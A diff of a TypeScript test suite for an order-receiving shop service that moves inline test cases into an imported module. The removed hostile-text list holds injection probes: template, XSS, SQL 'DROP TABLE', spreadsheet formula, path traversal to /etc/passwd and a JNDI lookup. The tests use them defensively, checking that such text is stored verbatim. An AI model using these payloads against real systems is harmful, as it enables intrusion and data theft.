@@ -1,14 +1,8 @@
+import { EXACT_PRICES, HOSTILE_TEXTS, IDS_ALIKE, IMPOSSIBLE_PRICES, windows1251 } from '../support/hard-cases.js';
 import { created, journalSize, lastMessage, received, storedBytes } from '../support/receiving.js';
 import { orderOf, positionOf, Shop } from '../support/shop.js';
 
 const BYTE_ORDER_MARK = [0xef, 0xbb, 0xbf];
-
-/** Text of ASCII and Russian letters (without Ё and ё) in windows-1251. */
-function windows1251(text: string): Buffer<ArrayBuffer> {
-  return Buffer.from(
-    [...text].map((letter) => (letter < '\u0080' ? letter.charCodeAt(0) : letter.charCodeAt(0) - 0x350)),
-  );
-}
 
 describe('receiving: everything exactly as it came', () => {
   let shop: Shop;
@@ -18,19 +12,7 @@ describe('receiving: everything exactly as it came', () => {
   afterAll(() => shop.close());
 
   describe('different ids are never merged', () => {
-    it.each<[string, string[]]>([
-      ['2^53 and 2^53 + 1 as numbers', ['9007199254740992', '9007199254740993']],
-      ['7 and "007"', ['7', '"007"']],
-      ['7, 7.0 and "7e0"', ['7', '7.0', '"7e0"']],
-      ['capital and small letters', ['"ЗАКАЗ-1"', '"заказ-1"', '"Заказ-1"']],
-      ['ё and е', ['"чёрный"', '"черный"']],
-      ['й in one sign and in two', ['"\u0439"', '"\u0438\u0306"']],
-      ['Latin and Cyrillic А', ['"A-1"', '"А-1"']],
-      ['spaces before and after', ['"sp"', '"sp "', '" sp"', '"sp\u00a0"', '"sp  "']],
-      ['a soft hyphen and a zero-width space', ['"hy-phen"', '"hy\u00ad-phen"', '"hy\u200b-phen"']],
-      ['emoji', ['"🔧"', '"🔩"', '"🔧🏻"', '"🔧🔧"']],
-      ['accents and sharp s', ['"resume"', '"resumé"', '"strasse"', '"straße"']],
-    ])('%s', async (_, ids) => {
+    it.each(IDS_ALIKE)('%s', async (_, ids) => {
       const text = (id: string) => JSON.stringify({ event: 'order.created', order: orderOf('ID') }).replace('"ID"', id);
       const orders = [];
       for (const id of ids) orders.push(await received(shop, text(id)));
@@ -61,17 +43,7 @@ describe('receiving: everything exactly as it came', () => {
     });
   });
 
-  it.each([
-    ['"0.1"', '0.10'],
-    ['0.1', '0.10'],
-    ['0.2', '0.20'],
-    ['0.07', '0.07'],
-    ['1.15', '1.15'],
-    ['4.35', '4.35'],
-    ['1e2', '100.00'],
-    ['"3450"', '3450.00'],
-    ['45035996273704.95', '45035996273704.95'],
-  ])('the price %s is %s, and the total exact', async (json, price) => {
+  it.each(EXACT_PRICES)('the price %s is %s, and the total exact', async (json, price) => {
     const id = `PR-${json.replaceAll('"', "'")}`;
     const order = await received(
       shop,
@@ -85,17 +57,14 @@ describe('receiving: everything exactly as it came', () => {
     expect(await received(shop, created('SUM-1', { positions }))).toMatchObject({ state: 'new', total: '0.30' });
   });
 
-  it.each(['1.005', '"1.005"', '1e400', '-5', '90071992547409.92', '"1 000"'])(
-    'the price %s is not rounded but needs attention',
-    async (json) => {
-      const id = `PX-${json.replaceAll('"', "'")}`;
-      const order = await received(
-        shop,
-        created(id, { positions: [positionOf(1, { price: 'P' })] }).replace('"P"', json),
-      );
-      expect(order).toMatchObject({ state: 'needs_attention', problems: [{ path: 'order.positions[0].price' }] });
-    },
-  );
+  it.each(IMPOSSIBLE_PRICES)('the price %s is not rounded but needs attention', async (json) => {
+    const id = `PX-${json.replaceAll('"', "'")}`;
+    const order = await received(
+      shop,
+      created(id, { positions: [positionOf(1, { price: 'P' })] }).replace('"P"', json),
+    );
+    expect(order).toMatchObject({ state: 'needs_attention', problems: [{ path: 'order.positions[0].price' }] });
+  });
 
   it('a total too large to be exact needs attention', async () => {
     const positions = [positionOf(1, { price: '90071992547409.91', quantity: 2 })];
@@ -138,20 +107,7 @@ describe('receiving: everything exactly as it came', () => {
     });
   });
 
-  it.each([
-    '{{7*7}}',
-    '{% include ".env" %}',
-    '{{ order.order_id | append: "x" }}',
-    '<script>alert(1)</script>',
-    `'; DROP TABLE external_orders; -- "`,
-    `=cmd|' /C calc'!A0`,
-    '@SUM(1+1)*cmd',
-    '../../etc/passwd',
-    '${jndi:ldap://x/a}',
-    '\u202eсправа налево',
-    'a\\b\nc\td\r\n',
-    '😀 👨‍👩‍👧 \u00ad\u200b',
-  ])('hostile text is kept as it is: %j', async (text) => {
+  it.each(HOSTILE_TEXTS)('hostile text is kept as it is: %j', async (text) => {
     const positions = [positionOf(1, { id: text, brand: text, number: text, name: text, comment: text })];
     const customer = { name: text, phone: text, email: text };
     const order = await received(
